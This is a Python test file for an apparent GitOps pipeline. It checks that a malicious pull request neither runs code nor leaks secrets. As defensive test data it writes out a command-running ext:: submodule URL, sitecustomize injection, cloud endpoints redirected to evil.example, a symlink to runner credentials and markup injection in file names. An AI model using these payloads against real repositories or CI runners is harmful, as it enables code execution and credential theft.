"""A malicious pull request through take, preview and comment: nothing of it runs, and nothing secret is told."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pydantic import SecretStr

from fedml_infra.model.validation import FED_KEY
from tests.cli.conftest import Run
from tests.gitops.repositories import Checkout
from tests.operations.worlds import HUB_FILE, KEY, World

FILE = "stacks/Pulumi.cardio.yaml"
PASSPHRASE = "correct horse battery staple"
EVIL_TEXT = "@org/team https://evil.example"


@pytest.fixture
def main(here: World, run: Run, checkout: Checkout, monkeypatch: pytest.MonkeyPatch) -> Checkout:
    """The stack of main is up, its key is KEY, and the pipeline has a passphrase."""
    monkeypatch.setenv("PULUMI_CONFIG_PASSPHRASE", PASSPHRASE)
    assert run("up", "cardio", "--yes").code == 0
    here.engine.set_secret("cardio", FED_KEY, SecretStr(KEY))
    checkout.commit("up")
    return checkout


def pull_request(main: Checkout, files: dict[str, str], link: Path | None = None) -> str:
    """A commit on another branch; main is checked out again."""
    main.git("switch", "--quiet", "--create", "evil")
    for name, content in files.items():
        main.write(name, content).chmod(0o644 if name.startswith("stacks/") else 0o755)
    if link is not None:
        (main.root / FILE).unlink()
        (main.root / FILE).symlink_to(link)
    head = main.commit("evil")
    main.git("switch", "--quiet", "main")
    return head


def looked_at(run: Run, head: str) -> tuple[list[int], str]:
    """What the pipeline's steps end with, and everything that they told."""
    steps = [
        ("gitops", "take", "--base", "HEAD", "--report", "take.json", head),
        ("gitops", "preview", "--base", "HEAD", "--take", "take.json", "--out", "preview.json", "--json"),
        ("gitops", "comment", "--preview", "preview.json"),
    ]
    done = [run(*step) for step in steps]
    return [each.code for each in done], "".join(each.out + each.err for each in done)


def test_its_code_is_not_run_and_its_stack_file_is_previewed(main: Checkout, run: Run, tmp_path: Path) -> None:
    canary = tmp_path.parent / f"{tmp_path.name}-canary"
    opens = f"open({str(canary)!r}, 'w')\n"
    head = pull_request(
        main,
        {
            "__main__.py": opens,
            "sitecustomize.py": opens,
            "requirements.txt": "evil==1\n",
            "Pulumi.yaml": "name: evil\nruntime: python\n",
            ".github/workflows/evil.yml": "on: push\n",
            ".gitattributes": "* filter=evil merge=evil\n",
            ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = ext::touch {canary}\n',
            FILE: (main.root / FILE).read_text().replace("m30", "h1") + f"  fedml-infra:tags: {{a: '{EVIL_TEXT}'}}\n",
        },
    )
    codes, told = looked_at(run, head)
    assert codes == [0, 0, 0]
    assert not canary.exists()
    assert (main.root / "Pulumi.yaml").read_text().startswith("name: fedml-infra")
    document = json.loads((main.root / "preview.json").read_text())
    assert [row["stack"] for row in document["stacks"]] == ["cardio"]
    assert "__main__.py" in document["ignored"]
    assert KEY not in told
    assert PASSPHRASE not in told


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text + "secretsprovider: awskms://alias/mine?endpoint=evil.example\n",
        lambda text: text + "encryptedkey: AQ==\n",
        lambda text: text + "  aws:endpoints: [{sts: 'https://evil.example'}]\n",
        lambda text: text + "  fedml-infra:tags: {a: {secure: v1:encrypted}}\n",
        lambda text: text.replace("pid: charite", "pid: {secure: v1:encrypted}"),
        lambda text: text + "  fedml-infra:member_key: {secure: v1:encrypted}\n",
        lambda text: text.replace("fed_name: cardio", "fed_name: &x cardio"),
    ],
)
def test_a_stack_file_that_reaches_for_a_secret_starts_no_engine(main: Checkout, run: Run, change: object) -> None:
    assert callable(change)
    before = (main.root / FILE).read_text()
    codes, told = looked_at(run, pull_request(main, {FILE: change(before)}))
    assert codes == [2, 2, 0]
    assert "### Refused" in told
    assert json.loads((main.root / "preview.json").read_text())["stacks"] == []
    assert (main.root / FILE).read_text() == before
    assert KEY not in told


def test_a_link_to_a_secret_of_the_runner_is_not_followed(main: Checkout, run: Run, tmp_path: Path) -> None:
    secret = tmp_path.parent / f"{tmp_path.name}-credentials"
    secret.write_text("config: {a: the-runners-own}\n")
    codes, told = looked_at(run, pull_request(main, {}, link=secret))
    assert codes == [2, 2, 0]
    assert "is a symbolic link" in told
    assert "the-runners-own" not in told


def test_a_name_of_a_file_says_nothing_in_the_comment(main: Checkout, run: Run) -> None:
    head = pull_request(main, {"a @org/team `<img src=x>`\n# heading": "x", "stacks/Pulumi.@org.yaml": HUB_FILE})
    assert looked_at(run, head)[0] == [2, 2, 0]
    comment = run("gitops", "comment", "--preview", "preview.json").out
    assert "- `stacks/Pulumi.@org.yaml`: is named as no stack file can be" in comment
    assert "\n# heading" not in comment
